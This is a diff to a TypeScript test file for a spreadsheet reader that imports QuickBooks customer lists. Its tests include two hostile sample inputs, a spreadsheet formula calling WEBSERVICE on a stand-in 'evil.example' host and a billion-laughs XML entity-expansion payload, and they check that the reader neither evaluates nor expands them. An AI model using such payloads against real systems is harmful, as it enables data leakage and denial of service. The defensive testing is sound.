@@ -1,5 +1,6 @@
 import { readFileSync } from 'node:fs';
 import { crc32, deflateRawSync } from 'node:zlib';
+import { readXlsx } from 'hucre/xlsx';
 import { expect, test } from 'vitest';
 import { compareWithList } from '#lib/quickbooks-list/compare.ts';
 import { findHeads } from '#lib/quickbooks-list/heads.ts';
@@ -90,7 +91,7 @@ const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${
 test.each(['quickbooks-list.xlsx', 'quickbooks-list.csv'])(
   'reads %s, which other programs wrote, with every row above and below the customers',
   async (name) => {
-    const sheet = await readListFile(fileOf(fixture(name)));
+    const sheet = await readListFile(fileOf(fixture(name)), readXlsx);
     const { listed, unread } = readList(sheet, findHeads(sheet.rows).columns);
     expect(unread).toEqual([]);
     expect(listed).toHaveLength(LISTED.rows);
@@ -124,7 +125,7 @@ test.each([
   ['tabs', fileOf(table.replaceAll(',', '\t'))],
   ['CRLF', fileOf(table.replaceAll('\n', '\r\n').replace('Straat\r', 'Straat'))],
 ])('reads a CSV file in %s', async (_, file) => {
-  expect((await readListFile(file)).rows).toEqual(rows);
+  expect((await readListFile(file, readXlsx)).rows).toEqual(rows);
 });
 
 test('a formula is its stored result, and a link is its text', async () => {
@@ -132,6 +133,7 @@ test('a formula is its stored result, and a link is its text', async () => {
     '<c r="B1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>stored</v></c><c r="C1"><f>1+1</f></c>';
   const { rows: read } = await readListFile(
     fileOf(workbook(`<row r="1">${cell('A1', 'Name')}${formula}</row>`)),
+    readXlsx,
   );
   expect(read).toEqual([['Name', 'stored', '']]);
 });
@@ -139,7 +141,7 @@ test('a formula is its stored result, and a link is its text', async () => {
 test('entities of a file’s own aren’t expanded', async () => {
   const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(1_000)}"><!ENTITY c "${'&b;'.repeat(1_000)}">]>`;
   const text = `${laughs}<worksheet><sheetData><row r="1">${cell('A1', 'Name &c;')}</row></sheetData></worksheet>`;
-  const sheet = await readListFile(fileOf(workbook('', { text }))).catch((error: Error) => error);
+  const sheet = await readListFile(fileOf(workbook('', { text })), readXlsx).catch((error: Error) => error);
   expect(sheet instanceof Error ? sheet.message : sheet.rows).toEqual(
     sheet instanceof Error ? refusals.notExcel : [['Name &c;']],
   );
@@ -187,12 +189,13 @@ test.each<[what: string, file: () => Blob, message: string]>([
     refusals.notExcel,
   ],
 ])('refuses %s', async (_, file, message) => {
-  await expect(readListFile(file())).rejects.toThrow(message);
+  await expect(readListFile(file(), readXlsx)).rejects.toThrow(message);
 });
 
 test('a quote without an end is listed with its row', async () => {
   const sheet = await readListFile(
     fileOf('Name,Email\nKaroo,a@b.co.za\n"Paarl,c@d.co.za\nBrits,e@f.co.za\n'),
+    readXlsx,
   );
   const { listed, unread } = readList(sheet, findHeads(sheet.rows).columns);
   expect(listed.map(({ name }) => name)).toEqual(['Karoo']);
